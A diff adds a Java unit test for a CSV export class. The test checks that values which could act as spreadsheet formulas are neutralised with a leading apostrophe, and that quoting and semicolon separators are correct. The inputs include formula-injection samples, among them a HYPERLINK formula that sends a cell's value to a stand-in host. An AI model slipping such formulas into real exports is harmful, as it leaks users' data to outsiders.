@@ -1,0 +1,41 @@
+package ca.posthaste.console.application;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+
+import ca.posthaste.language.Language;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Tables for spreadsheets: nothing in a cell ends it, and nothing is calculated. */
+class CsvTest {
+    private static String english(String... cells) {
+        return new Csv(Language.ENGLISH).line(List.of(cells)).taken();
+    }
+
+    @ParameterizedTest @ValueSource(strings = {"=1+1", "+1 604 555 0100", "-1", "@SUM(A1)", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20a"})
+    void what_would_be_a_formula_begins_with_an_apostrophe(String typed) {
+        assertEquals("'" + typed + "\r\n", english(typed));
+    }
+
+    @Test void also_behind_what_a_spreadsheet_leaves_out() {
+        assertEquals("\"'\t=1\",\"'\r=1\",\"'\n=1\"\r\n", english("\t=1", "\r=1", "\n=1"));
+    }
+
+    @Test void a_cell_ends_where_it_should() {
+        assertEquals("\"a,b\",\"c\"\"d\",\"e\r\nf\",\"g;h\",,i j\r\n", english("a,b", "c\"d", "e\r\nf", "g;h", "", "i j"));
+        assertEquals("\"'=HYPERLINK(\"\"https://x.example?\"\"&A1,\"\"go\"\")\"\r\n", english("=HYPERLINK(\"https://x.example?\"&A1,\"go\")"));
+        assertEquals("\"a\"\",=1+1\"\r\n", english("a\",=1+1"));
+    }
+
+    @Test void in_french_cells_are_separated_by_semicolons() {
+        assertEquals("a;\"b;c\";\"d,e\"\r\n", new Csv(Language.FRENCH).line(List.of("a", "b;c", "d,e")).taken());
+    }
+
+    @Test void what_was_taken_is_not_there_again() {
+        var csv = new Csv(Language.ENGLISH).line(List.of("a"));
+        assertEquals("a\r\n", csv.taken());
+        assertEquals("b\r\n", csv.line(List.of("b")).taken());
+    }
+}
